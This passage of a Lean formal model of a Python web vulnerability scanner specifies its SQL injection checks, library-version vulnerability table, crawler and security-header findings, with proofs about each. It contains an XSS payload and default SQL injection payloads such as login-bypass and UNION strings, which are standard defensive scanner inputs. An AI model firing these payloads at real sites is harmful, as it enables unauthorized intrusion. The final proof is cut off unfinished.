   ("<audio src=1 onerror=alert(1)>")]

/-! ## SQLiScanner (scanner/sqli.py)

`test_post_parameter` (lines 134-199) is modelled; `test_get_parameter`
differs from it only in transport (it rebuilds the URL query string via
`parse_qs` instead of posting a dict) and applies the same per-parameter
substitution and the same four detectors in the same order.  The response
oracle maps the posted data to the response body and elapsed time; the
baseline request posts the unmodified `form_data`.  Only the payload
requests are logged (the baseline request carries no payload). -/

structure SqliPayload where
  name : String
  payload : String
  expected_result : Option String
  deriving Repr, DecidableEq

structure SqliResponse where
  text : String
  elapsed : ℚ
  deriving Repr, DecidableEq

/-- The `error_patterns` list of `SQLiScanner._check_sql_error` (verbatim,
duplicates included). -/
def sqli_error_patterns : List String :=
  [("SQL syntax"), ("mysql_fetch_array"), ("mysql_fetch"),
   ("mysql_num_rows"), ("mysql_result"), ("mysql_query"), ("mysql error"),
   ("ORA-"), ("SQLite/JDBCDriver"), ("SQLite.Exception"),
   ("System.Data.SQLite.SQLiteException"), ("Warning: mysql_"),
   ("PostgreSQL.*ERROR"), ("Warning.*pg_"), ("valid PostgreSQL result"),
   ("Npgsql."), ("Microsoft SQL Server"), ("ODBC SQL Server Driver"),
   ("SQLServer JDBC Driver"),
   ("com.microsoft.sqlserver.jdbc.SQLServerException"),
   ("SQLServerException"), ("Error Occurred While Processing Request"),
   ("Server Error in \x27/\x27 Application"),
   ("Unclosed quotation mark after the character string"),
   ("Microsoft OLE DB Provider for SQL Server"),
   ("SQLServer JDBC Driver"), ("SQLServerException"),
   ("System.Data.SqlClient.SqlException"),
   ("Unclosed quotation mark after the character string")]

/-- `SQLiScanner._check_sql_error`. -/
def check_sql_error (response_text : String) : Bool :=
  sqli_error_patterns.any (fun p =>
    pyContains (pyLower response_text.toList) (pyLower p.toList))

/-- The four detection checks of `test_post_parameter`, in priority order:
SQL error signature, declared expected result (a present, nonempty value —
Python truthiness of `payload.get("expected_result")`), body-length delta
over 100, elapsed time over 2 seconds.  Returns the detection method. -/
def sqliDetect (baseline : String) (resp : SqliResponse) (p : SqliPayload) :
    Option String :=
  if check_sql_error resp.text then some (("Error based") : String)
  else if (match p.expected_result with
           | some e => decide (e ≠ ("")) && pyContains resp.text.toList e.toList
           | none => false) then some (("Result based") : String)
  else if 100 < ((resp.text.length : ℤ) - (baseline.length : ℤ)).natAbs then
    some (("Length based") : String)
  else if 2 < resp.elapsed then some (("Time based") : String)
  else none

/-- `SQLiScanner.test_post_parameter`: baseline first (an empty baseline
body aborts), then one request per payload with the payload substituted
into exactly the tested parameter of a copy of `form_data`; every payload
is tried (no break).  Returns (request log, `vulnerable` flag, the
`payloads` entries recorded as (name, detection method)). -/
def test_post_parameter (respond : List (String × String) → SqliResponse)
    (payloads : List SqliPayload) (form_data : List (String × String))
    (param : String) :
    List (List (String × String)) × Bool × List (String × String) :=
  let baseline := (respond form_data).text
  if baseline = ("") then ([], false, [])
  else
    payloads.foldl (fun acc p =>
      let test_data := dictSet param p.payload form_data
      let resp := respond test_data
      match sqliDetect baseline resp p with
      | some m => (acc.1 ++ [test_data], true, acc.2.2 ++ [(p.name, m)])
      | none => (acc.1 ++ [test_data], acc.2.1, acc.2.2)) ([], false, [])

/-- The built-in default payloads of `SQLiScanner._load_payloads`. -/
def default_sqli_payloads : List SqliPayload :=
  [⟨("Login Bypass"), ("\x27 OR \x271\x27=\x271"), some (("Welcome"))⟩,
   ⟨("Union Based"), ("\x27 UNION SELECT 1,2,3--"), some (("2"))⟩,
   ⟨("Error Based"), ("\x27 OR 1=1--"), some (("Welcome"))⟩,
   ⟨("Boolean Based"), ("\x27 OR 1=1#"), some (("Welcome"))⟩,
   ⟨("Time Based"), ("\x27 OR (SELECT COUNT(*) FROM users) > 0--"),
    some (("Welcome"))⟩]

/-! ## vulnerable_components.py -/

structure LibInfo where
  versions : List String
  cve : String
  description : String
  severity : String
  recommendation : String
  consequences : String
  deriving Repr, DecidableEq

/-- `VULNERABLE_LIBRARIES` of `scanner/vulnerable_components.py` (the
built-in table; no `data/vulnerable_libraries.json` exists in the
repository, so `load_vulnerability_database` leaves it unchanged). -/
def VULNERABLE_LIBRARIES : List (String × LibInfo) :=
  [((("jquery") : String),
    { versions := [("1.0"), ("1.1"), ("1.2"), ("1.3"), ("1.4"), ("1.5"),
        ("1.6"), ("1.7"), ("1.8"), ("1.9"), ("1.10"), ("1.11"), ("1.12"),
        ("2.0"), ("2.1"), ("2.2"), ("3.0"), ("3.1"), ("3.2"), ("3.3"), ("3.4")],
      cve := ("Multiple CVEs"),
      description := ("Multiple vulnerabilities in jQuery may allow XSS, prototype pollution, or other security issues"),
      severity := ("Medium"),
      recommendation := ("Update to the latest version of jQuery"),
      consequences := ("Outdated jQuery versions may contain security vulnerabilities that could be exploited by attackers") }),
   ((("bootstrap") : String),
    { versions := [("2.0"), ("2.1"), ("2.2"), ("2.3"), ("3.0"), ("3.1"),
        ("3.2"), ("3.3"), ("4.0"), ("4.1"), ("4.2"), ("4.3"), ("4.4")],
      cve := ("Multiple CVEs"),
      description := ("Multiple vulnerabilities in Bootstrap may allow XSS or other security issues"),
      severity := ("Medium"),
      recommendation := ("Update to the latest version of Bootstrap"),
      consequences := ("Outdated Bootstrap versions may contain security vulnerabilities that could be exploited by attackers") }),
   ((("angular") : String),
    { versions := [("1.0"), ("1.1"), ("1.2"), ("1.3"), ("1.4"), ("1.5"),
        ("1.6"), ("1.7"), ("2.0"), ("2.1"), ("2.2"), ("2.3"), ("2.4"),
        ("4.0"), ("4.1"), ("4.2"), ("4.3"), ("5.0"), ("5.1"), ("5.2"),
        ("6.0"), ("6.1"), ("7.0"), ("7.1"), ("7.2"), ("8.0"), ("8.1"),
        ("8.2"), ("9.0")],
      cve := ("Multiple CVEs"),
      description := ("Multiple vulnerabilities in AngularJS may allow XSS, prototype pollution, or other security issues"),
      severity := ("High"),
      recommendation := ("Update to the latest version of Angular"),
      consequences := ("Outdated Angular versions may contain security vulnerabilities that could be exploited by attackers") }),
   ((("react") : String),
    { versions := [("0.3"), ("0.4"), ("0.5"), ("0.6"), ("0.7"), ("0.8"),
        ("0.9"), ("0.10"), ("0.11"), ("0.12"), ("0.13"), ("0.14"),
        ("15.0"), ("15.1"), ("15.2"), ("15.3"), ("15.4"), ("15.5"),
        ("15.6"), ("16.0"), ("16.1"), ("16.2"), ("16.3"), ("16.4"),
        ("16.5"), ("16.6"), ("16.7"), ("16.8"), ("16.9")],
      cve := ("Multiple CVEs"),
      description := ("Multiple vulnerabilities in React may allow XSS or other security issues"),
      severity := ("Medium"),
      recommendation := ("Update to the latest version of React"),
      consequences := ("Outdated React versions may contain security vulnerabilities that could be exploited by attackers") }),
   ((("vue") : String),
    { versions := [("1.0"), ("2.0"), ("2.1"), ("2.2"), ("2.3"), ("2.4"),
        ("2.5"), ("2.6")],
      cve := ("Multiple CVEs"),
      description := ("Multiple vulnerabilities in Vue may allow XSS or other security issues"),
      severity := ("Medium"),
      recommendation := ("Update to the latest version of Vue"),
      consequences := ("Outdated Vue versions may contain security vulnerabilities that could be exploited by attackers") }),
   ((("lodash") : String),
    { versions := [("0.1"), ("0.2"), ("0.3"), ("0.4"), ("0.5"), ("0.6"),
        ("0.7"), ("0.8"), ("0.9"), ("1.0"), ("1.1"), ("1.2"), ("1.3"),
        ("2.0"), ("2.1"), ("2.2"), ("2.3"), ("2.4"), ("3.0"), ("3.1"),
        ("3.2"), ("3.3"), ("3.4"), ("3.5"), ("3.6"), ("3.7"), ("3.8"),
        ("3.9"), ("3.10"), ("4.0"), ("4.1"), ("4.2"), ("4.3"), ("4.4"),
        ("4.5"), ("4.6"), ("4.7"), ("4.8"), ("4.9"), ("4.10"), ("4.11"),
        ("4.12"), ("4.13"), ("4.14"), ("4.15"), ("4.16"), ("4.17.0"),
        ("4.17.1"), ("4.17.2"), ("4.17.3"), ("4.17.4"), ("4.17.5"),
        ("4.17.6"), ("4.17.7"), ("4.17.8"), ("4.17.9"), ("4.17.10"),
        ("4.17.11"), ("4.17.12"), ("4.17.13"), ("4.17.14"), ("4.17.15")],
      cve := ("CVE-2019-10744"),
      description := ("Prototype pollution vulnerability in Lodash"),
      severity := ("High"),
      recommendation := ("Update to the latest version of Lodash"),
      consequences := ("Attackers could potentially modify Object prototype, leading to application crashes or remote code execution") }),
   ((("moment") : String),
    { versions := [("1.0"), ("1.1"), ("1.2"), ("1.3"), ("1.4"), ("1.5"),
        ("1.6"), ("1.7"), ("2.0"), ("2.1"), ("2.2"), ("2.3"), ("2.4"),
        ("2.5"), ("2.6"), ("2.7"), ("2.8"), ("2.9"), ("2.10"), ("2.11"),
        ("2.12"), ("2.13"), ("2.14"), ("2.15"), ("2.16"), ("2.17"),
        ("2.18"), ("2.19")],
      cve := ("CVE-2017-18214"),
      description := ("Regular expression denial of service (ReDoS) vulnerability in Moment.js"),
      severity := ("Medium"),
      recommendation := ("Update to the latest version of Moment.js"),
      consequences := ("Attackers could cause denial of service by providing specially crafted input to the parser") })]

/-- Python `int(part)` restricted to the version-string shapes that occur
here: an optional sign followed by one or more ASCII digits.  (CPython also
accepts surrounding whitespace and inner underscores; such inputs do not
arise from splitting version strings of the table or of the claims.) -/
def pyIntParse (s : List Char) : Option Int :=
  let core := fun (digits : List Char) (sign : Int) =>
    if digits ≠ [] ∧ digits.all Char.isDigit then
      some (sign * (digits.foldl (fun n c => n * 10 + (c.toNat - ('0').toNat)) 0 : Nat))
    else none
  match s with
  | ('-') :: rest => core rest (-1)
  | ('+') :: rest => core rest 1
  | _ => core s 1

/-- Python `str.split(sep)` for a one-character separator (empty pieces
kept, `''.split('.') = ['']`). -/
def splitOnCharAux (c : Char) : List Char → List Char → List (List Char)
  | [], cur => [cur.reverse]
  | x :: xs, cur =>
    if x = c then cur.reverse :: splitOnCharAux c xs []
    else splitOnCharAux c xs (x :: cur)

def splitOnChar (c : Char) (l : List Char) : List (List Char) :=
  splitOnCharAux c l []

/-- `[int(part) for part in version.split('.')]`, `none` when any part
raises `ValueError`. -/
def parseVersionParts (v : String) : Option (List Int) :=
  (splitOnChar ('.') v.toList).foldr (fun part acc =>
    match pyIntParse part, acc with
    | some n, some l => some (n :: l)
    | _, _ => none) (some [])

/-- Tail of the component-wise comparison when the left version has run
out: the left components are all 0 from here on. -/
def versionOlderNilLeft : List Int → Bool
  | [] => false
  | y :: ys => if 0 < y then true else if y < 0 then false else versionOlderNilLeft ys

/-- Tail of the component-wise comparison when the right version has run
out: the right components are all 0 from here on. -/
def versionOlderNilRight : List Int → Bool
  | [] => false
  | x :: xs => if x < 0 then true else if 0 < x then false else versionOlderNilRight xs

/-- The component-wise comparison loop of `check_library_vulnerability`:
`is_older` is true when the first differing component (missing components
taken as 0) is smaller on the left. -/
def versionIsOlder : List Int → List Int → Bool
  | [], ys => versionOlderNilLeft ys
  | x :: xs, [] =>
    if x < 0 then true else if 0 < x then false else versionOlderNilRight xs
  | x :: xs, y :: ys =>
    if x < y then true else if y < x then false else versionIsOlder xs ys

/-- The inner loop over the listed vulnerable versions: the library is
reported as soon as the probed version is *not older* than some listed
version; versions of the table that fail to parse are skipped. -/
def checkVulnLoop (info : LibInfo) (vp : List Int) : List String → Option LibInfo
  | [] => none
  | vv :: rest =>
    match parseVersionParts vv with
    | none => checkVulnLoop info vp rest
    | some vvp =>
      if ¬ versionIsOlder vp vvp then some info else checkVulnLoop info vp rest

/-- `check_library_vulnerability` of `scanner/vulnerable_components.py`:
exact membership in the vulnerable list, else the fallback comparison; a
probed version that cannot be parsed is cautiously reported. -/
def check_library_vulnerability (library version : String) : Option LibInfo :=
  match (VULNERABLE_LIBRARIES.find? (fun kv => kv.1 = (⟨pyLower library.toList⟩ : String))).map (fun kv => kv.2) with
  | none => none
  | some info =>
    if version ∈ info.versions then some info
    else
      match parseVersionParts version with
      | none => some info
      | some vp => checkVulnLoop info vp info.versions

/-! ## WebCrawler (scanner/crawler.py)

The threaded `WebCrawler` keys its `visited` set on raw (non-normalized)
URLs and performs a non-atomic check-then-add.  The model below executes
the worker loop under the sequential schedule in which a single worker
drains the queue (a legal interleaving); even under it, two raw URLs that
normalize identically are both processed.  `tldextract.extract(...).
registered_domain` (a public-suffix lookup) is the `registered_domain`
oracle; `extract_forms`/`SQLiScanner` calls inside `_process_url` mutate
only the form and vulnerability accumulators, never `visited`, `links` or
the queue, and are omitted. -/

structure WCPage where
  contentTypeHtml : Bool
  anchors : List String

structure WCWorld where
  wfetch : String → Option WCPage
  registered_domain : String → String

/-- `is_valid_link` of `src/utils/helpers.py`. -/
def is_valid_link (u : String) : Bool :=
  (urlparseChars u.toList).netloc ≠ [] ∧
    ¬ ((("mailto:").toList.isPrefixOf u.toList) ∨
       (("tel:").toList.isPrefixOf u.toList) ∨
       (("javascript:").toList.isPrefixOf u.toList))

/-- `is_same_domain` of `src/utils/helpers.py`: equality of registrable
domains via `tldextract`. -/
def helpers_is_same_domain (w : WCWorld) (u1 u2 : String) : Bool :=
  w.registered_domain u1 = w.registered_domain u2

structure WCState where
  visited : List String
  links : List String
  queue : List String
  deriving Repr, DecidableEq

/-- `WebCrawler._process_url`: re-check visited, add the raw URL, fetch,
require an HTML content type, then filter and enqueue the anchors. -/
def wcProcessUrl (w : WCWorld) (base_url : String) (st : WCState) (url : String) :
    WCState :=
  if url ∈ st.visited then st
  else
    let st := { st with visited := st.visited ++ [url] }
    match w.wfetch url with
    | none => st
    | some page =>
      if ¬ page.contentTypeHtml then st
      else
        page.anchors.foldl (fun s link =>
          if is_valid_link link ∧ helpers_is_same_domain w link base_url then
            if link ∉ s.visited then
              { s with links := s.links ++ [link], queue := s.queue ++ [link] }
            else s
          else s) st

/-- The worker loop of `WebCrawler._crawl_worker` under the
single-worker schedule: pop, check visited, process, until the queue is
empty (the fuel bounds the run length). -/
def wcRun (w : WCWorld) (base_url : String) : Nat → WCState → WCState
  | 0, st => st
  | Nat.succ fuel, st =>
    match st.queue with
    | [] => st
    | url :: rest =>
      let st := { st with queue := rest }
      if url ∈ st.visited then wcRun w base_url fuel st
      else wcRun w base_url fuel (wcProcessUrl w base_url st url)

/-- `WebCrawler.crawl` under the single-worker schedule: the queue starts
holding the base URL. -/
def webCrawlerCrawl (w : WCWorld) (base_url : String) (fuel : Nat) : WCState :=
  wcRun w base_url fuel ⟨[], [], [base_url]⟩

/-! ## Concrete fixture data used by counterexamples and witnesses -/

/-- A scanner state mid-way through a first scan: one visited URL, one
finding, one link, one form, some stats. -/
def fixtureScannerState : ScannerState :=
  { stats := ScanStats.init.add_url (("http://a.com/x")),
    visited_urls := [("http://a.com/x")],
    vulnerabilities := [((("xss") : String), ("http://a.com/x"))],
    scanned_links := [((("http://a.com/x") : String), ("http://a.com/y"))],
    scanned_forms := [],
    scan_id := some (("scan-1")) }

/-- The default configuration of `ScannerConfig` (`scanner/config.py`):
`max_depth=3`, `max_pages=100`, `max_retries=3`, all scan toggles on. -/
def cfgDefault : ScanConfig :=
  ⟨3, 100, 3, true, true, true, true, true⟩

/-- The default configuration with `max_depth` set to 0. -/
def cfgDepth0 : ScanConfig :=
  ⟨0, 100, 3, true, true, true, true, true⟩

/-- A world where every fetch raises `requests.RequestException`. -/
def failWorld : World :=
  { fetch := fun _ _ => none,
    urljoin := fun _ r => r,
    urlParamVulns := fun _ => [],
    formVulns := fun _ _ => [],
    analyzerVulns := fun _ _ => [] }

/-- A page carrying a single link, pointing at an external domain. -/
def evilPage : Page :=
  { status_code := 200, elapsed := 1, headers := [],
    hrefs := [("http://evil.com/x")], forms := [] }

/-- A world whose seed page carries a single link, pointing at an external
domain. -/
def evilWorld : World :=
  { fetch := fun _ _ => some evilPage,
    urljoin := fun _ r => r,
    urlParamVulns := fun _ => [],
    formVulns := fun _ _ => [],
    analyzerVulns := fun _ _ => [] }

/-- A login form with two text inputs and a submit button. -/
def c3Form : Form :=
  ⟨("http://a.com/login"), ("post"),
   [⟨("text"), ("username"), ("admin")⟩,
    ⟨("text"), ("password"), ("secret")⟩,
    ⟨("submit"), ("btn"), ("go")⟩]⟩

/-- A response oracle whose body always carries a SQL error banner, so the
very first SQL payload is confirmed. -/
def c3Respond : List (String × String) → String :=
  fun _ => ("You have an error in your SQL syntax")

/-- The `WebCrawler` fixture: the base page links to the same target twice,
once with and once without a fragment. -/
def wcFixtureWorld : WCWorld :=
  { wfetch := fun u =>
      if u = ("http://a.com/") then
        some ⟨true, [("http://a.com/page"), ("http://a.com/page#top")]⟩
      else some ⟨true, []⟩,
    registered_domain := fun _ => ("a.com") }

/-! # Theorems -/

/-! ## C9 — start_scan reset -/

/-- Claim C9, counterexample: `start_scan` does not clear the visited-URL
set.  Starting a scan on a scanner that has already visited
`http://a.com/x` resets stats, findings, links and forms, yet the visited
set still holds that URL, so not all per-scan mutable state is empty when
the crawl begins. -/
theorem start_scan_reset_keeps_visited :
    (start_scan_reset fixtureScannerState none (("uuid-gen"))).vulnerabilities = [] ∧
    (start_scan_reset fixtureScannerState none (("uuid-gen"))).stats = ScanStats.init ∧
    (start_scan_reset fixtureScannerState none (("uuid-gen"))).visited_urls
      = [("http://a.com/x")] ∧
    (start_scan_reset fixtureScannerState none (("uuid-gen"))).visited_urls ≠ [] := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  decide

/-- Claim C9 (amended): every call to `start_scan` resets the stats
aggregator, the findings list and the scanned-links and scanned-forms
lists, and sets a scan id; the visited-URL set is NOT reset and carries
over from the previous scan. -/
theorem start_scan_reset_amended (s : ScannerState) (scan_id : Option String)
    (gen : String) :
    (start_scan_reset s scan_id gen).stats = ScanStats.init ∧
    (start_scan_reset s scan_id gen).vulnerabilities = [] ∧
    (start_scan_reset s scan_id gen).scanned_links = [] ∧
    (start_scan_reset s scan_id gen).scanned_forms = [] ∧
    (start_scan_reset s scan_id gen).visited_urls = s.visited_urls ∧
    (start_scan_reset s scan_id gen).scan_id.isSome = true := by
  refine ⟨rfl, rfl, rfl, rfl, rfl, rfl⟩

/-! ## C6 — vulnerable-component version comparison -/

/-- Claim C6, counterexample: `check_library_vulnerability` DOES flag
`jquery` at version `99.0`.  The fallback comparison returns the library
info as soon as the probed version is *not older* than some listed
version, and `99.0` is newer than the first listed `1.0`. -/
theorem check_library_vulnerability_flags_99 :
    (check_library_vulnerability (("jquery")) (("99.0"))).isSome = true := by
  decide

/-- The first entry of the vulnerable-library table (jQuery). -/
def jqueryInfo : LibInfo :=
  (VULNERABLE_LIBRARIES.headD ((("")), ⟨[], (""), (""), (""), (""), ("")⟩)).2

theorem checkVulnLoop_isSome (info : LibInfo) (vp : List Int) (l : List String)
    (vv : String) (hmem : vv ∈ l) (vvp : List Int)
    (hp : parseVersionParts vv = some vvp)
    (hno : versionIsOlder vp vvp = false) :
    (checkVulnLoop info vp l).isSome = true := by
  induction l with
  | nil => cases hmem
  | cons hd tl ih =>
    rcases List.mem_cons.mp hmem with heq | htl
    · subst heq
      unfold checkVulnLoop
      rw [hp]
      simp [hno]
    · unfold checkVulnLoop
      cases hps : parseVersionParts hd with
      | none => exact ih htl
      | some q =>
        by_cases hq : versionIsOlder vp q = true
        · simp [hq]
          exact ih htl
        · simp [hq]

/-- Claim C6 (amended): `jquery` at `1.9` is flagged (it is in the listed
vulnerable versions), and `jquery` at `99.0` is flagged as well — the
fallback comparison reports any parseable version that is not older than
some listed version, so versions numerically greater than every listed one
are still flagged.  The last conjunct is the general fact forcing this:
every parseable version not older than `1.0` is reported. -/
theorem check_library_vulnerability_compare :
    (check_library_vulnerability (("jquery")) (("1.9"))).isSome = true ∧
    (check_library_vulnerability (("jquery")) (("99.0"))).isSome = true ∧
    ∀ (version : String) (vp : List Int),
      parseVersionParts version = some vp →
      versionIsOlder vp [(1 : Int), 0] = false →
      (check_library_vulnerability (("jquery")) version).isSome = true := by
  refine ⟨by decide, by decide, ?_⟩
  intro version vp hp hno
  have hfind : (VULNERABLE_LIBRARIES.find?
      (fun kv => kv.1 = (⟨pyLower (("jquery")).toList⟩ : String))).map
        (fun kv => kv.2) = some jqueryInfo := by decide
  unfold check_library_vulnerability
  rw [hfind]
  dsimp only
  by_cases hmem : version ∈ jqueryInfo.versions
  · simp [hmem]
  · rw [if_neg hmem, hp]
    exact checkVulnLoop_isSome jqueryInfo vp jqueryInfo.versions (("1.0"))
      (by decide) [(1 : Int), 0] (by decide) hno

/-! ## C5 — missing-security-header findings -/

/-- Claim C5, counterexample: the six headers the code tracks are not the
six the claim lists.  For a response with no headers at all the check
emits six findings, but one of them is `missing_x_xss_protection` and none
is `missing_permissions_policy` — `Permissions-Policy` is not a tracked
header (`X-XSS-Protection` is tracked instead). -/
theorem missing_header_findings_not_permissions_policy :
    ((missing_header_findings (("http://t/")) []).map (fun f => f.vtype) =
      [("missing_x_frame_options"), ("missing_x_content_type_options"),
       ("missing_x_xss_protection"), ("missing_content_security_policy"),
       ("missing_strict_transport_security"), ("missing_referrer_policy")]) ∧
    ¬ (("missing_permissions_policy") ∈
        (missing_header_findings (("http://t/")) []).map (fun f => f.vtype)) ∧
    (("missing_x_xss_protection") ∈
        (missing_header_findings (("http://t/")) []).map (fun f => f.vtype)) := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C5 (amended): the six tracked headers are X-Frame-Options,
X-Content-Type-Options, X-XSS-Protection, Content-Security-Policy,
Strict-Transport-Security and Referrer-Policy.  For every response
containing none of them (under the case-insensitive membership of
`CaseInsensitiveDict`), exactly six `missing_*` findings are produced, one
per tracked header, each carrying the tracked header name in its details;
and a response containing all six (in any letter case) yields none. -/
theorem missing_header_findings_complete (url : String)
    (hdrs : List (String × String))
    (habsent : ∀ name ∈ security_headers.map Prod.fst, ciMember hdrs name = false) :
    (missing_header_findings url hdrs).map (fun f => (f.vtype, f.header_name)) =
      [((("missing_x_frame_options") : String), ("X-Frame-Options")),
       ((("missing_x_content_type_options") : String), ("X-Content-Type-Options")),
       ((("missing_x_xss_protection") : String), ("X-XSS-Protection")),
       ((("missing_content_security_policy") : String), ("Content-Security-Policy")),
       ((("missing_strict_transport_security") : String), ("Strict-Transport-Security")),
       ((("missing_referrer_policy") : String), ("Referrer-Policy"))] ∧
    (missing_header_findings url hdrs).length = 6 ∧
    ∀ hdrs2 : List (String × String),
      (∀ name ∈ security_headers.map Prod.fst, ciMember hdrs2 name = true) →
      missing_header_findings url hdrs2 = [] := by
  have hm : (extract_headers hdrs).missing = security_headers := by
    apply List.filter_eq_self.mpr
    intro a ha
    have := habsent a.1 (List.mem_map.mpr ⟨a, ha, rfl⟩)
    simp [this]
  have hfull : missing_header_findings url hdrs =
      security_headers.map (fun hi =>
        { vtype := ("missing_") ++ pyLowerUnderscore hi.1,
          url := url,
          header_name := hi.1,
          header_description := hi.2.description,
          description := ("Missing ") ++ hi.1 ++ (": ") ++ hi.2.description,
          recommendation := ("Implement the ") ++ hi.1 ++ (" header to improve security"),
          severity := ("Medium"),
          consequences := hi.2.consequences }) := by
    unfold missing_header_findings
    rw [hm]
  refine ⟨?_, ?_, ?_⟩
  · rw [hfull, List.map_map]
    have hfun : ((fun f : HeaderFinding => (f.vtype, f.header_name)) ∘
        (fun hi : String × HeaderInfo =>
          ({ vtype := ("missing_") ++ pyLowerUnderscore hi.1,
             url := url,
             header_name := hi.1,
             header_description := hi.2.description,
             description := ("Missing ") ++ hi.1 ++ (": ") ++ hi.2.description,
             recommendation := ("Implement the ") ++ hi.1 ++ (" header to improve security"),
             severity := ("Medium"),
             consequences := hi.2.consequences } : HeaderFinding))) =
        (fun hi : String × HeaderInfo =>
          (((("missing_") ++ pyLowerUnderscore hi.1 : String)), hi.1)) := rfl
    rw [hfun]
    decide
  · rw [hfull, List.length_map]
    decide
  · intro hdrs2 hpresent
    have hm2 : (extract_headers hdrs2).missing = [] := by
      apply List.filter_eq_nil_iff.mpr
      intro a ha
      have := hpresent a.1 (List.mem_map.mpr ⟨a, ha, rfl⟩)
      simp [this]
    unfold missing_header_findings
    rw [hm2]
    rfl

/-- Witness for the amended C6 theorem at the concrete version `2.5.1`:
parseable, not older than `1.0`, and flagged. -/
theorem check_library_vulnerability_compare_witness :
    parseVersionParts (("2.5.1")) = some [(2 : Int), 5, 1] ∧
    versionIsOlder [(2 : Int), 5, 1] [(1 : Int), 0] = false ∧
    (check_library_vulnerability (("jquery")) (("2.5.1"))).isSome = true :=
  ⟨by decide, by decide,
   check_library_vulnerability_compare.2.2 (("2.5.1")) [(2 : Int), 5, 1]
     (by decide) (by decide)⟩

/-- Witness for the amended C5 theorem: a headerless response yields the
six tracked findings, and a response carrying all six headers in lower
case yields none. -/
theorem missing_header_findings_complete_witness :
    ((missing_header_findings (("http://w/")) []).map
        (fun f => (f.vtype, f.header_name)) =
      [((("missing_x_frame_options") : String), ("X-Frame-Options")),
       ((("missing_x_content_type_options") : String), ("X-Content-Type-Options")),
       ((("missing_x_xss_protection") : String), ("X-XSS-Protection")),
       ((("missing_content_security_policy") : String), ("Content-Security-Policy")),
       ((("missing_strict_transport_security") : String), ("Strict-Transport-Security")),
       ((("missing_referrer_policy") : String), ("Referrer-Policy"))]) ∧
    missing_header_findings (("http://w/"))
      [((("x-frame-options") : String), ("DENY")),
       ((("x-content-type-options") : String), ("nosniff")),
       ((("x-xss-protection") : String), ("1")),
       ((("content-security-policy") : String), ("default-src none")),
       ((("strict-transport-security") : String), ("max-age=1")),
       ((("referrer-policy") : String), ("no-referrer"))] = [] :=
  ⟨(missing_header_findings_complete (("http://w/")) [] (by decide)).1,
   (missing_header_findings_complete (("http://w/")) [] (by decide)).2.2
     [((("x-frame-options") : String), ("DENY")),
      ((("x-content-type-options") : String), ("nosniff")),
      ((("x-xss-protection") : String), ("1")),
      ((("content-security-policy") : String), ("default-src none")),
      ((("strict-transport-security") : String), ("max-age=1")),
      ((("referrer-policy") : String), ("no-referrer"))] (by decide)⟩

/-! ## C10 — performance-metric consistency of ScanStats -/

/-- The inductive invariant of the response-time aggregation: after at
least one `add_response`, the minimum is finite and brackets the total
from below while the maximum brackets it from above, the request counter
is positive, and the average is the exact quotient. -/
def StatsTimeInv (st : ScanStats) : Prop :=
  0 < st.total_requests ∧
  st.avg_response_time = st.total_response_time / (st.total_requests : ℚ) ∧
  ∃ m : ℚ, st.min_response_time = (m : WithTop ℚ) ∧
    m * (st.total_requests : ℚ) ≤ st.total_response_time ∧
    st.total_response_time ≤ st.max_response_time * (st.total_requests : ℚ)

theorem statsTimeInv_add_response (st : ScanStats) (h : StatsTimeInv st)
    (c : Nat) (rt : ℚ) : StatsTimeInv (st.add_response c rt) := by
  obtain ⟨hpos, -, m, hmin, hlo, hhi⟩ := h
  refine ⟨Nat.succ_le_succ (Nat.zero_le _), rfl, min m rt, ?_, ?_, ?_⟩
  · show min st.min_response_time ((rt : ℚ) : WithTop ℚ) = _
    rw [hmin]
    exact (WithTop.coe_min m rt).symm
  · show min m rt * ((st.total_requests + 1 : Nat) : ℚ) ≤ st.total_response_time + rt
    push_cast
    have h1 : min m rt * ((st.total_requests : ℚ) + 1) =
        min m rt * (st.total_requests : ℚ) + min m rt := by ring
    rw [h1]
    have h2 : min m rt * (st.total_requests : ℚ) ≤ m * (st.total_requests : ℚ) :=
      mul_le_mul_of_nonneg_right (min_le_left m rt) (by positivity)
    exact add_le_add (h2.trans hlo) (min_le_right m rt)
  · show st.total_response_time + rt ≤
      max st.max_response_time rt * ((st.total_requests + 1 : Nat) : ℚ)
    push_cast
    have h1 : max st.max_response_time rt * ((st.total_requests : ℚ) + 1) =
        max st.max_response_time rt * (st.total_requests : ℚ) +
          max st.max_response_time rt := by ring
    rw [h1]
    have h2 : st.max_response_time * (st.total_requests : ℚ) ≤
        max st.max_response_time rt * (st.total_requests : ℚ) :=
      mul_le_mul_of_nonneg_right (le_max_left _ _) (by positivity)
    exact add_le_add (hhi.trans h2) (le_max_right st.max_response_time rt)

theorem statsTimeInv_first (c : Nat) (rt : ℚ) :
    StatsTimeInv (ScanStats.init.add_response c rt) := by
  refine ⟨Nat.one_pos, rfl, rt, ?_, ?_, ?_⟩
  · show min (⊤ : WithTop ℚ) ((rt : ℚ) : WithTop ℚ) = _
    rw [min_comm]
    exact min_eq_left le_top
  · show rt * ((0 + 1 : Nat) : ℚ) ≤ 0 + rt
    push_cast
    simp
  · show (0 : ℚ) + rt ≤ max 0 rt * ((0 + 1 : Nat) : ℚ)
    push_cast
    simp [le_max_right]

theorem statsTimeInv_fold (l : List (Nat × ℚ)) (st : ScanStats)
    (h : StatsTimeInv st) :
    StatsTimeInv (l.foldl (fun s p => s.add_response p.1 p.2) st) := by
  induction l generalizing st with
  | nil => exact h
  | cons hd tl ih => exact ih _ (statsTimeInv_add_response st h hd.1 hd.2)

/-- Claim C10 (confirmed): with no responses recorded, the reported
performance metrics are `(avg = 0, min = +∞, max = 0)`; and after any
nonempty sequence of `add_response` calls, the average equals the total
response time divided by the request count and lies between the minimum
and the maximum. -/
theorem scanStats_performance_consistent :
    (ScanStats.init.performance_metrics = ((0 : ℚ), (⊤ : WithTop ℚ), (0 : ℚ))) ∧
    ∀ l : List (Nat × ℚ), l ≠ [] →
      (((l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init)).avg_response_time =
        (l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init).total_response_time /
          ((l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init).total_requests : ℚ)) ∧
      ((l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init).min_response_time ≤
        (((l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init).avg_response_time : ℚ) :
          WithTop ℚ)) ∧
      ((l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init).avg_response_time ≤
        (l.foldl (fun s p => s.add_response p.1 p.2) ScanStats.init).max_response_time) := by
  refine ⟨rfl, ?_⟩
